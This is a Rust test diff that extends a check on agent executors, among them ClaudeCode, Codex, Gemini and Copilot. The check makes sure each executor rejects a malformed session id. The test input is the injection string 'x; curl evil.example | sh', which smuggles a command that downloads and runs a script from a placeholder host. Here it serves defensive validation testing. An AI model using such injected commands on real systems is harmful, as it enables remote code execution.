@@ -265,19 +265,26 @@ fn a_turn_refuses_a_bad_session_id_for_every_executor() {
         resume: Some("x; curl evil.example | sh"),
         transcript_file: None,
     };
-    let errors: Vec<String> = [Executor::ClaudeCode, Executor::Codex, Executor::Command]
-        .map(|executor| Role {
-            command: vec!["my-agent".to_owned()],
-            ..role(executor)
-        })
-        .iter()
-        .map(|role| {
-            let error = turn_invocation(role, None, PROMPT, None, bad).expect_err("refused");
-            error.to_string()
-        })
-        .collect();
-    assert_eq!(errors[0], errors[1]);
-    assert_eq!(errors[0], errors[2]);
+    let errors: Vec<String> = [
+        Executor::ClaudeCode,
+        Executor::Codex,
+        Executor::Command,
+        Executor::Gemini,
+        Executor::Copilot,
+        Executor::Opencode,
+        Executor::Pi,
+    ]
+    .map(|executor| Role {
+        command: vec!["my-agent".to_owned()],
+        ..role(executor)
+    })
+    .iter()
+    .map(|role| {
+        let error = turn_invocation(role, None, PROMPT, None, bad).expect_err("refused");
+        error.to_string()
+    })
+    .collect();
+    assert!(errors.iter().all(|e| *e == errors[0]), "{errors:#?}");
     assert_snapshot!(errors[0], @"the CLI reported a session id that is not letters, digits, `-` and `_` starting with a letter or digit (byte 1 is not allowed)");
     let long = "a".repeat(500);
     let error = turn_invocation(
